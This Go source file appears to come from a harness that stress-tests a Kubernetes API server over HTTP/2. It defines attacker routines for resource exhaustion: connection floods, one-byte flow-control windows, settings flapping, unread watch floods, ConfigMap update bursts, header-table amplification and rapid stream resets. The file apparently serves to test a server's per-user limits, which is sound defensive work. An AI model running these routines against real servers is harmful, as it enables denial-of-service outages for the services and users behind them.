package main

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

const (
	// manyConnections is how many connections of HTTP/2 stand for one of a user's attack. Three times as many are about as
	// many as one user may have.
	manyConnections = 330
	// watchConnections is the same for connections full of watches. Three times as many are as many as one user may have.
	watchConnections = 34
	allObjects       = configMaps + "?watch=true"
)

// unreadRefusals has as many connections and requests as a user may have, and reads no answer: most are refused.
func unreadRefusals(ctx context.Context, a *attacker) {
	a.onFrames(ctx, manyConnections, func(f *frames, _ int) error {
		for range attackStreams {
			if _, err := f.request("GET", "/version", nil); err != nil {
				return err
			}
		}
		f.hold(ctx)
		return nil
	}, windowOfNothing())
}

// bytewise takes large answers by windows of one byte.
func bytewise(ctx context.Context, a *attacker) {
	const streams = 16
	a.onFrames(ctx, 1, func(f *frames, _ int) error {
		var windows bytes.Buffer
		framer := http2.NewFramer(&windows, nil)
		for range streams {
			stream, err := f.request("GET", configMaps, nil)
			if err != nil {
				return err
			}
			for range 50 {
				_ = framer.WriteWindowUpdate(stream, 1) // a buffer takes everything
			}
		}
		sleep(ctx, 3*patience)
		a.requests.Add(50 * streams * f.send(ctx, windows.Bytes()))
		return nil
	}, windowOfNothing())
}

// flapping changes the window of a connection full of unread watches to and fro.
func flapping(ctx context.Context, a *attacker) {
	var settings bytes.Buffer
	framer := http2.NewFramer(&settings, nil)
	for i := 0; settings.Len() < 8<<10; i++ {
		// A buffer takes everything.
		_ = framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 2)})
		_ = framer.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1<<14 + uint32(i%2)})
		_ = framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i % 2)})
	}
	a.onFrames(ctx, 4, func(f *frames, _ int) error {
		for range attackStreams - 1 {
			if _, err := f.request("GET", allObjects, nil); err != nil {
				return err
			}
		}
		sleep(ctx, time.Second)
		a.requests.Add(f.send(ctx, settings.Bytes()))
		return nil
	}, windowOfNothing())
}

// unreadWatches opens watches that begin with all objects, and reads nothing. On every other connection all that
// belongs to the connection is read, so that only the windows of streams are in the way.
func unreadWatches(ctx context.Context, a *attacker) {
	a.onFrames(ctx, 8, func(f *frames, worker int) error {
		if worker%2 == 1 {
			f.write(func() error {
				return f.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 15})
			})
			f.write(func() error { return f.framer.WriteWindowUpdate(0, 1<<30) })
		}
		return f.flood(ctx, func() error {
			_, err := f.request("GET", allObjects, nil)
			return err
		})
	}, windowOfNothing())
}

// watchedBurst opens as many watches as a user may have, reads nothing, and changes the object that all of them watch
// again and again.
func watchedBurst(ctx context.Context, a *attacker) {
	burst(ctx, a, watchConnections, false, func(int) *attacker { return a })
}

// sharedBurst is the same by 60 users with 100 watches each, which they open one after the other, and read. It takes half a
// minute until they are open and the object changes.
func sharedBurst(ctx context.Context, a *attacker) {
	const users, each = 60, 20
	others := a.others()
	if len(others) < users {
		return
	}
	burst(ctx, a, each, true, func(worker int) *attacker { return others[worker%users] })
}

func burst(ctx context.Context, a *attacker, each int, read bool, who func(worker int) *attacker) {
	const pause = 300 * time.Millisecond
	name := "burst-" + a.Salt
	var turns atomic.Int64
	watched := func(f *frames) error {
		begun := make(chan struct{}, attackStreams)
		next := func(uint32) { begun <- struct{}{} }
		f.begun.Store(&next)
		for range attackStreams {
			if _, err := f.request("GET", allObjects+"&fieldSelector=metadata.name%3D"+name, nil); err != nil {
				return err
			}
			if read { // so that none is refused because there are many at once
				select {
				case <-begun:
				case <-f.closed:
				case <-time.After(time.Second):
				}
			}
		}
		f.hold(ctx)
		return nil
	}
	a.each(ctx, a.Connections*each+1, func(worker int) error {
		settings := windowOfNothing()
		if read {
			settings.Val = 1 << 30
		}
		f, err := who(worker).open(ctx, settings)
		if err != nil {
			return err
		}
		defer f.conn.Close() //nolint:errcheck // it is given up
		if read {
			f.write(func() error { return f.framer.WriteWindowUpdate(0, settings.Val) })
		}
		if worker > 0 {
			return watched(f)
		}
		for ; ctx.Err() == nil && !isOver(f.closed); sleep(ctx, pause) {
			if read && turns.Load() == 1 && a.answered.Load() < int64(a.Connections*each*attackStreams*9/10) {
				continue // nothing changes before most watches are open
			}
			method, path := "PUT", configMaps+"/"+name
			if turns.Add(1) == 1 {
				method, path = "POST", configMaps
			}
			body := fmt.Appendf(nil, `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":%q},"data":{"a":"%d%s"}}`,
				name, turns.Load(), strings.Repeat("a", 100<<10))
			if _, err := f.request(method, path, body, field{"content-type", "application/json"}); err != nil {
				return err
			}
		}
		return nil
	})
}

// smallHeads opens as many watches as a user may have, with many headers that are short where they are sent and long
// where they are kept.
func smallHeads(ctx context.Context, a *attacker) {
	const many = 66
	fields := []field{
		{":method", "GET"},
		{":scheme", "https"},
		{":authority", "proxy"},
		{":path", allObjects + "&fieldSelector=metadata.name%3D" + a.Salt},
	}
	for i := range many {
		fields = append(fields, field{fmt.Sprintf("a%d", i), "b"})
	}
	block := headerBlock(fields...)
	a.onFrames(ctx, watchConnections, func(f *frames, _ int) error {
		for range attackStreams {
			if err := f.block(block); err != nil {
				return err
			}
		}
		f.hold(ctx)
		return nil
	})
}

// leaveWhenBegun ends each request as soon as its answer has begun.
func leaveWhenBegun(path string) func(ctx context.Context, a *attacker) {
	return func(ctx context.Context, a *attacker) {
		a.onFrames(ctx, 1, func(f *frames, _ int) error {
			leave := func(stream uint32) {
				f.write(func() error { return f.framer.WriteRSTStream(stream, http2.ErrCodeCancel) })
				select {
				case f.free <- struct{}{}:
				default:
				}
			}
			f.begun.Store(&leave)
			return f.flood(ctx, func() error {
				_, err := f.request("GET", path, nil)
				return err
			})
		})
	}
}
